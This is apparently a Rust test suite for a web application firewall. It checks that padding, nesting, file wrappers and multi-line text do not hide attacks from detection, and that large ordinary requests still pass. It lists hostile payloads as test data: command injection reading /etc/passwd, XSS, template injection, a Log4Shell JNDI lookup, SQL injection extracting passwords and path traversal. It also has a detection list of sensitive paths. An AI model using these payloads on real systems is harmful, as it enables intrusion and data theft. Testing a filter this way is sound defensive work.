//! Padding never hides an attack: what is blocked alone is blocked behind, before and between any padding.
//!
//! Every sample of every signature and detector that is blocked in a form field, a JSON string, a query or a header is
//! sent again with each padding of [`paddings`]. By default a part of the samples is taken; all of them with
//!
//! ```text
//! PADDING_ALL=1 cargo test --release --test padding
//! ```

use std::sync::OnceLock;
use weir_core::detect::TABLE;
use weir_core::engine::{InspectionOptions, Scratch, inspect};
use weir_core::parse::message;
use weir_core::ruleset::{Ruleset, builtin, compile};
use weir_policy::{OverlimitAction, OverlimitPolicy};

/// Samples taken when not all are.
const SAMPLES: usize = 40;

fn ruleset() -> &'static Ruleset {
    static RULES: OnceLock<Ruleset> = OnceLock::new();
    RULES.get_or_init(|| compile::compile(&builtin::files()).expect("built-in rules compile"))
}

/// Whether the default policy blocks the request: by an attack, or because a part of it was not inspected.
fn is_blocked(raw: &[u8]) -> bool {
    let found =
        inspect(&message::request(raw), ruleset(), &InspectionOptions::default(), &mut Scratch::default(), &|| false);
    let gaps = found.not_inspected.iter().map(|gap| gap.reason);
    !found.attacks().is_empty() || OverlimitPolicy::default().decide(gaps) == OverlimitAction::Block
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn post(media: &str, body: &[u8]) -> Vec<u8> {
    let head = format!(
        "POST /api HTTP/1.1\r\nHost: shop.example\r\nContent-Type: {media}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    [head.as_bytes(), body].concat()
}

fn form(body: &str) -> Vec<u8> {
    post("application/x-www-form-urlencoded", body.as_bytes())
}

fn json(body: &str) -> Vec<u8> {
    post("application/json", body.as_bytes())
}

fn get(query: &str, headers: &str) -> Vec<u8> {
    format!("GET /api?{query} HTTP/1.1\r\nHost: shop.example\r\n{headers}\r\n").into_bytes()
}

/// A form with a field or, with the attribute `file`, a file.
fn part(file: &str, content: &str) -> Vec<u8> {
    let body = format!("--sep\r\nContent-Disposition: form-data; name=\"q\"{file}\r\n\r\n{content}\r\n--sep--\r\n");
    post("multipart/form-data; boundary=sep", body.as_bytes())
}

fn field_alone(text: &str) -> Vec<u8> {
    part("", text)
}

/// JSON in a form's field.
fn json_field_alone(text: &str) -> Vec<u8> {
    part("", &format!("{{\"q\":{}}}", json_text(text)))
}

/// Whether a text is a relative path, which in a file names another file of the same project.
fn climbs(text: &str) -> bool {
    text.to_ascii_lowercase().replace("%25", "%").replace("%2e", ".").contains("..")
}

/// Whether a text is a value in a file, too: it is short, and none that only files hold (docs/policy.md, "Files").
fn is_value_in_file(text: &str) -> bool {
    let begins =
        |known: &str| text.trim_start().get(..known.len()).is_some_and(|head| head.eq_ignore_ascii_case(known));
    let lines = text.lines().filter(|line| !line.trim().is_empty()).count();
    let page = ["<!doctype html", "<html", "#!/"].iter().any(|known| begins(known));
    let document = lines > 1 && text.ends_with('\n');
    // A whole statement of SQL is what dumps hold (docs/detection.md, class `sqli`).
    let statement = begins("select ") && text.contains(" from ");
    !climbs(text) && text.len() <= 1024 && !page && !document && !statement
}

/// Lines of a text.
const LINES: &str = "\nThe second line\n\nthe third one,\nand more.\n";
/// A fenced block of Markdown.
const FENCE: &str = "```js\nx\n```\n";
/// Attacks that run wherever they are in a text: they close a quote and go on, are markup, or expressions of a template.
const RUN_ANYWHERE: &[&str] = &[
    "';system('id');//",
    "\"; phpinfo(); //",
    "');process.exit(1)//",
    "\".concat(1);alert(1)//",
    "';alert(1)//",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "{{''.__class__.__mro__[1]}}",
    "{{config}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
    "<%= `id` %>",
    "${jndi:ldap://a.example/x}",
    "{if system('id')}{/if}",
    "'; cat /etc/passwd #",
    "' union select password from users -- ",
    "../../../../etc/passwd",
];

/// A way to send an attack, alone and padded.
struct Padding {
    name: &'static str,
    alone: fn(&str) -> Vec<u8>,
    padded: fn(&str) -> Vec<u8>,
}

fn form_alone(text: &str) -> Vec<u8> {
    form(&format!("q={}", percent(text)))
}

fn json_text(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

fn json_alone(text: &str) -> Vec<u8> {
    json(&format!("{{\"q\":{}}}", json_text(text)))
}

fn query_alone(text: &str) -> Vec<u8> {
    get(&format!("q={}", percent(text)), "")
}

fn paddings() -> Vec<Padding> {
    vec![
        Padding {
            name: "form: empty names before",
            alone: form_alone,
            padded: |text| form(&format!("{}q={}", "a&".repeat(20_000), percent(text))),
        },
        Padding {
            name: "form: fields around",
            alone: form_alone,
            padded: |text| {
                let fields = |from: usize| (from..from + 3000).map(|n| format!("f{n}=v{n}&")).collect::<String>();
                form(&format!("{}q={}&{}", fields(0), percent(text), fields(3000)))
            },
        },
        Padding {
            name: "form: a ladder of encodings before",
            alone: form_alone,
            padded: |text| {
                let ladder = format!("%{}41{}&{}lt;", "25".repeat(8), "||&&".repeat(500), "amp;".repeat(8));
                form(&format!("a={}&q={}", percent(&ladder), percent(text)))
            },
        },
        Padding {
            name: "JSON: empty strings before",
            alone: json_alone,
            padded: |text| json(&format!("[{}{{\"q\":{}}}]", "\"\",".repeat(20_000), json_text(text))),
        },
        Padding {
            name: "JSON: empty arrays before",
            alone: json_alone,
            padded: |text| json(&format!("[{}{{\"q\":{}}}]", "[],".repeat(20_000), json_text(text))),
        },
        Padding {
            name: "JSON: numbers behind",
            alone: json_alone,
            padded: |text| json(&format!("{{\"q\":{},\"n\":[{}1]}}", json_text(text), "1,".repeat(50_000))),
        },
        Padding {
            name: "JSON: brackets around, deeper than is parsed",
            alone: json_alone,
            padded: |text| json(&format!("{}{{\"q\":{}}}{}", "[".repeat(400), json_text(text), "]".repeat(400))),
        },
        Padding {
            name: "JSON in JSON, deeper than is parsed",
            alone: json_alone,
            padded: |text| {
                json(&(0..7).fold(format!("{{\"q\":{}}}", json_text(text)), |inner, _| {
                    format!("{{\"q\":{}}}", json_text(&inner))
                }))
            },
        },
        Padding {
            name: "a file name",
            alone: field_alone,
            padded: |text| part(if is_value_in_file(text) { "; filename=\"x.txt\"" } else { "" }, text),
        },
        Padding {
            name: "an encoded file name, and a type",
            alone: field_alone,
            padded: |text| {
                let file = "; filename*=UTF-8''x.png\r\nContent-Type: image/png";
                part(if is_value_in_file(text) { file } else { "" }, text)
            },
        },
        Padding {
            name: "JSON in a file, behind 100 KB of members",
            alone: json_field_alone,
            padded: |text| {
                let members: String = (0..5000).map(|n| format!("\"member{n}\":\"value\",")).collect();
                part(
                    if climbs(text) { "" } else { "; filename=\"blob\"" },
                    &format!("{{{members}\"q\":{}}}", json_text(text)),
                )
            },
        },
        Padding {
            name: "a form in a file",
            alone: form_alone,
            padded: |text| {
                let fields: String = (0..500).map(|n| format!("field{n}=value&")).collect();
                let body = format!("{fields}q={}", percent(text));
                if climbs(text) { form(&body) } else { part("; filename=\"form.txt\"", &body) }
            },
        },
        Padding {
            name: "query: names before",
            alone: query_alone,
            padded: |text| get(&format!("{}q={}", "a&".repeat(20_000), percent(text)), ""),
        },
        Padding {
            name: "query: a body of runs behind",
            alone: query_alone,
            padded: |text| {
                let mut raw =
                    format!("POST /api?q={} HTTP/1.1\r\nHost: shop.example\r\n\r\n", percent(text)).into_bytes();
                raw.extend("||&&%2525".repeat(4000).bytes());
                raw
            },
        },
        Padding {
            name: "query: header lines behind",
            alone: query_alone,
            padded: |text| {
                let lines: String = (0..990).map(|n| format!("X-{n}: a=b; c=d\r\n")).collect();
                get(&format!("q={}", percent(text)), &lines)
            },
        },
    ]
}

/// Samples of all rules, from every class alike.
fn samples() -> Vec<String> {
    let signatures = ruleset().signatures.iter().flat_map(|signature| signature.doc.positive.iter().cloned());
    let detectors = TABLE.iter().flat_map(|detector| detector.samples.positive.iter().map(|text| (*text).to_owned()));
    let all: Vec<String> = signatures.chain(detectors).collect();
    if std::env::var_os("PADDING_ALL").is_some() {
        return all;
    }
    let step = (all.len() / SAMPLES).max(1);
    all.into_iter().step_by(step).collect()
}

#[test]
fn padding_never_hides_an_attack() {
    let (mut checked, mut hidden) = (0, Vec::new());
    for text in samples() {
        for padding in paddings() {
            if is_blocked(&(padding.alone)(&text)) {
                checked += 1;
                if !is_blocked(&(padding.padded)(&text)) {
                    hidden.push(format!("{}: {text:?}", padding.name));
                }
            }
        }
    }
    println!("{checked} padded attacks");
    assert!(checked > 200, "only {checked} samples are blocked alone");
    assert!(hidden.is_empty(), "{} of {checked} are hidden:\n{}", hidden.len(), hidden.join("\n"));
}

/// Fields that are made for texts and code, in which text of several lines is usual.
const TEXT_FIELDS: &[&str] = &["comment", "message", "content", "body", "description", "code", "template"];

/// A text in a field for texts, as JSON and as a form.
fn in_field(field: &str, text: &str) -> [Vec<u8>; 2] {
    [json(&format!("{{\"id\":7,\"{field}\":{}}}", json_text(text))), form(&format!("id=7&{field}={}", percent(text)))]
}

/// In fields for texts, what begins a text is found whatever lines follow, and what runs anywhere is found anywhere: lines
/// and fences are no evidence that code is shown, because whoever attacks can write them.
#[test]
fn lines_and_fences_hide_no_attack_in_fields_for_texts() {
    let flagged = ruleset().signatures.iter().filter(|signature| signature.doc.spares_documents);
    let begin = flagged.flat_map(|signature| signature.doc.positive.iter().map(String::as_str));
    // What must be the end of the value, such as a path, is another value with lines behind it.
    let begin = begin.filter(|text| !text.contains('\n') && !is_value_alone(text));
    let behind =
        |text: &str| vec![format!("{text}{LINES}"), format!("{text}{LINES}{FENCE}"), format!("\n\n{text}{LINES}")];
    let around = |text: &str| {
        vec![
            format!("First line\nsecond\n\nthird line\n{text}"),
            format!("First line\nsecond\n\nthird line\n{text}{LINES}"),
            format!("First line\n\n```\n{text}\n```{LINES}"),
        ]
    };
    let padded = begin.map(|text| (text, behind(text)));
    let padded = padded.chain(RUN_ANYWHERE.iter().map(|text| (*text, [behind(text), around(text)].concat())));
    let (mut checked, mut hidden) = (0, Vec::new());
    for (number, (alone, texts)) in padded.enumerate() {
        let field = TEXT_FIELDS[number % TEXT_FIELDS.len()];
        for (at, _) in in_field(field, alone).iter().enumerate().filter(|(_, raw)| is_blocked(raw)) {
            checked += 1;
            hidden.extend(
                texts
                    .iter()
                    .filter(|text| !is_blocked(&in_field(field, text)[at]))
                    .map(|text| format!("{field}: {text:?}")),
            );
        }
    }
    println!("{checked} padded texts");
    assert!(checked > 100, "only {checked} samples are blocked alone");
    assert!(hidden.is_empty(), "{} are hidden:\n{}", hidden.len(), hidden.join("\n"));
}

/// Whether a text is an attack only as the whole value: the path of a file, or the name of a class.
fn is_value_alone(text: &str) -> bool {
    let path = text.contains("etc/") || text.contains("etc\\") || text.contains(":\\") || text.contains("\\\\");
    let path = path
        || ["web-inf", "/opt/", "/proc/", "/var/", ".ht", ".ssh", "boot.ini"]
            .iter()
            .any(|part| text.to_lowercase().contains(part));
    let name = text.chars().all(|c| c.is_ascii_alphanumeric() || "._${}[]\"'=".contains(c));
    path || name
}

/// What no ordinary client exceeds must not be blocked.
#[test]
fn large_ordinary_requests_pass() {
    let list = |unit: &str, n: usize| format!("[{}{unit}]", format!("{unit},").repeat(n - 1));
    let fields: String = (0..30_000).map(|n| format!("field{n}=value{n}&")).collect();
    let rows = (0..20_000).map(|n| format!("{{\"id\":{n},\"name\":\"Product {n}\",\"tags\":[\"red\",\"blue\"]}}"));
    for (name, raw) in [
        ("100,000 strings", json(&list("\"ab\"", 100_000))),
        ("100,000 empty strings", json(&list("\"\"", 100_000))),
        ("100,000 numbers", json(&list("12.5", 100_000))),
        ("a form of 30,000 fields", form(&fields)),
        ("20,000 rows", json(&format!("[{}]", rows.collect::<Vec<_>>().join(",")))),
        ("4 MiB of text", post("text/plain", "The quick brown fox jumps over it.\n".repeat(120_000).as_bytes())),
    ] {
        assert!(!is_blocked(&raw), "{name}");
    }
}
